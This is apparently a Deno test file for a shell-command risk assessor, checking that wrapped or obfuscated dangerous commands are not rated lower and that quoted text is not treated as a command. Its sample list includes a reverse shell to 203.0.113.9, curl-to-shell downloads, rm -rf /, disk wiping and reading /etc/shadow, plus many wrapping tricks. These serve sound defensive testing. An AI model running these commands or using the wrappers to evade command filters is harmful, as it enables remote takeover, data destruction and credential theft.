import assert from "node:assert/strict";
import fc from "fast-check";
import {
  assessCommand,
  RISK_LEVELS,
  type RiskLevel,
} from "@/lib/engines/shell_risk/mod.ts";
import { ANY_CHARACTER } from "@/tests/support/any_character.ts";
import { roundsOf, seedFor } from "@/tests/support/seed.ts";

/** Fixed, so that a failure is the same on every machine; printed with it. */
const SEED = seedFor(import.meta.url);

const SAMPLES: readonly string[] = [
  "ls -la",
  "rm -rf /",
  "rm -rf ~",
  "rm -rf src",
  "rm notes.txt",
  "git status",
  "git reset --hard",
  "git push --force origin main",
  "curl -fsSL https://example.org/i.sh | sh",
  "curl http://203.0.113.9/x | bash",
  "dd if=/dev/zero of=/dev/sda",
  "cat /etc/shadow",
  "terraform destroy -auto-approve",
  "kubectl delete namespace production",
  "mkfs.ext4 /dev/sdb1",
  "chmod -R 777 /",
  "systemctl stop auditd",
  "psql app -c 'DROP TABLE users'",
  "npm install left-pad",
  "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  "python3 -c 'import shutil; shutil.rmtree(\"/home\")'",
];

const quote = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;
const base64 = (text: string): string => btoa(text);

/** Ways to execute a command through something else. */
const EXECUTION_WRAPPERS:
  readonly (readonly [string, (c: string) => string])[] = [
    ["sudo sh -c", (c) => `sudo sh -c ${quote(c)}`],
    ["bash -c", (c) => `bash -c ${quote(c)}`],
    ["eval", (c) => `eval ${quote(c)}`],
    ["env sh -c", (c) => `env A=1 sh -c ${quote(c)}`],
    ["nohup", (c) => `nohup bash -c ${quote(c)} &`],
    ["timeout", (c) => `timeout -k 5 60 sh -c ${quote(c)}`],
    ["substitution", (c) => `echo "$(${c}\n)"`],
    ["backticks of sh -c", (c) => `sh -c ${quote(`true; ${c}`)}`],
    ["here-string", (c) => `bash <<< ${quote(c)}`],
    ["heredoc", (c) => `sh <<'END_OF_SCRIPT'\n${c}\nEND_OF_SCRIPT\n`],
    ["pipe into a shell", (c) => `printf '%s\\n' ${quote(c)} | sh`],
    ["base64", (c) => `echo ${base64(c)} | base64 -d | sh`],
    ["subshell", (c) => `( ${c}\n)`],
    ["group", (c) => `{ ${c}\n}`],
    ["function", (c) => `run_it() { ${c}\n}; run_it`],
    ["loop", (c) => `for i in 1 2; do ${c}\ndone`],
    ["condition", (c) => `if true; then ${c}\nfi`],
    [
      "file written, then run",
      (c) => `echo ${quote(c)} > /tmp/step.sh; sh /tmp/step.sh`,
    ],
    ["ssh", (c) => `ssh deploy@host.example ${quote(c)}`],
    ["docker exec", (c) => `docker exec web sh -c ${quote(c)}`],
    ["xargs", (c) => `echo x | xargs -I{} sh -c ${quote(c)}`],
    ["find -exec", (c) => `find . -maxdepth 0 -exec sh -c ${quote(c)} \\;`],
    ["trap", (c) => `trap ${quote(c)} EXIT`],
    ["variable", (c) => `code=${quote(c)}; bash -c "$code"`],
    [
      "python",
      (c) =>
        `python3 -c ${quote(`import os; os.system(${JSON.stringify(c)})`)}`,
    ],
    ["perl", (c) => `perl -e ${quote(`system(q{${c}})`)}`],
    ["tmux", (c) => `tmux new-session -d ${quote(c)}`],
    ["watch", (c) => `watch -n 5 ${quote(c)}`],
    ["git alias", (c) => `git -c alias.zz=${quote(`!${c}`)} zz`],
    ["after a comment line", (c) => `# harmless\n${c}`],
  ];

/** Ways to mention a command without running it, with the wrapper's own level. */
const DATA_WRAPPERS:
  readonly (readonly [string, (c: string) => string, RiskLevel])[] = [
    ["echo", (c) => `echo ${quote(c)}`, "low"],
    ["printf", (c) => `printf '%s\\n' ${quote(c)}`, "low"],
    ["grep pattern", (c) => `grep -rn -- ${quote(c)} src`, "low"],
    ["comment", (c) => `true # ${c.replaceAll("\n", " ")}`, "low"],
    ["assignment", (c) => `note=${quote(c)}`, "low"],
    ["commit message", (c) => `git commit -m ${quote(c)}`, "medium"],
    [
      "quoted heredoc to a file",
      (c) => `cat > notes.md <<'END_OF_NOTES'\n${c}\nEND_OF_NOTES\n`,
      "medium",
    ],
    ["log search", (c) => `git log --grep=${quote(c)}`, "low"],
    [
      "awk string",
      (c) => `awk -v pattern=${quote(c)} '$0 == pattern' log.txt`,
      "low",
    ],
    [
      "python print",
      (c) => `python3 -c ${quote(`print(${JSON.stringify(c)})`)}`,
      "low",
    ],
    ["jq argument", (c) => `jq -n --arg c ${quote(c)} '{c: $c}'`, "low"],
    ["file written, not run", (c) => `echo ${quote(c)} > notes.txt`, "medium"],
    [
      "issue text",
      (c) => `gh issue create --title x --body ${quote(c)}`,
      "medium",
    ],
  ];

const rank = (level: RiskLevel): number => RISK_LEVELS.indexOf(level);

/** Samples that hold no single quotes inside a language string are safe for perl's q{}. */
function fits(name: string, command: string): boolean {
  return name !== "perl" || !/[{}]/.test(command);
}

Deno.test("assessCommand() never rates a command lower because it is wrapped", () => {
  for (const sample of SAMPLES) {
    const plain = assessCommand(sample).risk_level;
    for (const [name, wrap] of EXECUTION_WRAPPERS) {
      if (!fits(name, sample)) continue;
      const wrapped = assessCommand(wrap(sample)).risk_level;
      assert.ok(
        rank(wrapped) >= rank(plain),
        `${name}: ${sample} is ${plain}, wrapped ${wrapped}: ${wrap(sample)}`,
      );
    }
  }
});

Deno.test("assessCommand() never rates a command lower inside two wrappers", () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...SAMPLES),
      fc.constantFrom(...EXECUTION_WRAPPERS),
      fc.constantFrom(...EXECUTION_WRAPPERS),
      (sample, [outerName, outer], [innerName, inner]) => {
        fc.pre(fits(innerName, sample) && fits(outerName, inner(sample)));
        const plain = assessCommand(sample).risk_level;
        const text = outer(inner(sample));
        const wrapped = assessCommand(text).risk_level;
        assert.ok(
          rank(wrapped) >= rank(plain),
          `${plain} became ${wrapped}: ${text}`,
        );
      },
    ),
    { seed: SEED, numRuns: roundsOf(150) },
  );
});

Deno.test("assessCommand() does not take data for commands", () => {
  for (const sample of SAMPLES) {
    for (const [name, wrap, own] of DATA_WRAPPERS) {
      const level = assessCommand(wrap(sample)).risk_level;
      assert.ok(
        rank(level) <= rank(own),
        `${name}: ${level} for ${wrap(sample)}`,
      );
    }
  }
});

Deno.test("assessCommand() does not depend on the names of variables and project files", () => {
  const name = fc.stringMatching(/^[a-z][a-z0-9]{3,9}$/).filter((word) =>
    !/^(?:env|home|path|bash|build|dist|node|core|temp|logs|cache|target|venv|coverage|generated|artifacts|trash|blib|deps)/
      .test(word)
  );
  fc.assert(
    fc.property(name, name, (a, b) => {
      const pairs: readonly (readonly [string, string])[] = [
        [`rm -rf my${a}dir`, `rm -rf my${b}dir`],
        [`v${a}=/; rm -rf "$v${a}"`, `v${b}=/; rm -rf "$v${b}"`],
        [`cat my${a}.txt`, `cat my${b}.txt`],
        [`f${a}() { rm -rf ~; }; f${a}`, `f${b}() { rm -rf ~; }; f${b}`],
        [
          `echo 'rm -rf /' > /tmp/x${a}; bash /tmp/x${a}`,
          `echo 'rm -rf /' > /tmp/x${b}; bash /tmp/x${b}`,
        ],
        [`git push --force origin f${a}`, `git push --force origin f${b}`],
      ];
      for (const [one, other] of pairs) {
        assert.equal(
          assessCommand(one).risk_level,
          assessCommand(other).risk_level,
          `${one} / ${other}`,
        );
      }
    }),
    { seed: SEED, numRuns: roundsOf(40) },
  );
});

const SHELL_PIECES = fc.constantFrom(
  ..."rm|-rf|/|~|$HOME|$(|)|`|'|\"|{|}|;|&|&&||||\\|\n|<<A|<<<|>|>>|<(|${x:-|}|$((|))|[[|]]|if|then|fi|for i in|do|done|case x in|esac|eval|sh -c|echo|base64 -d|xargs|find . -exec|\\;|#|=|x=|$x|*|?|[a-z]|!|\u0000|\u200b|\u202e|\u0430|\ufeff|\r|🙂|__proto__|constructor|toString|powershell -enc|cmd /c|%TEMP%|C:\\|python3 -c|perl -e|awk|sed -i|sudo|curl http://h.example|sh"
    .split("|").map((piece) => piece === "" ? "|" : piece),
);

Deno.test("assessCommand() answers every text, always the same way", () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: ANY_CHARACTER, maxLength: 300 }),
        fc.array(SHELL_PIECES, { maxLength: 60 }).map((pieces) =>
          pieces.join(" ")
        ),
        fc.array(SHELL_PIECES, { maxLength: 60 }).map((pieces) =>
          pieces.join("")
        ),
      ),
      (text) => {
        const first = assessCommand(text);
        assert.ok(RISK_LEVELS.includes(first.risk_level));
        assert.ok(
          first.explanation.length > 0 && first.explanation.length < 2_000,
        );
        assert.ok(first.safer_alternative.length > 0);
        assert.deepEqual(assessCommand(text), first);
      },
    ),
    { seed: SEED, numRuns: roundsOf(500) },
  );
});

Deno.test("assessCommand() proposes something that it rates lower", () => {
  for (const sample of SAMPLES) {
    const { risk_level, safer_alternative } = assessCommand(sample);
    const again = assessCommand(safer_alternative).risk_level;
    if (risk_level === "low") assert.equal(again, "low", safer_alternative);
    else {assert.ok(
        rank(again) < rank(risk_level),
        `${sample} -> ${safer_alternative}`,
      );}
  }
});
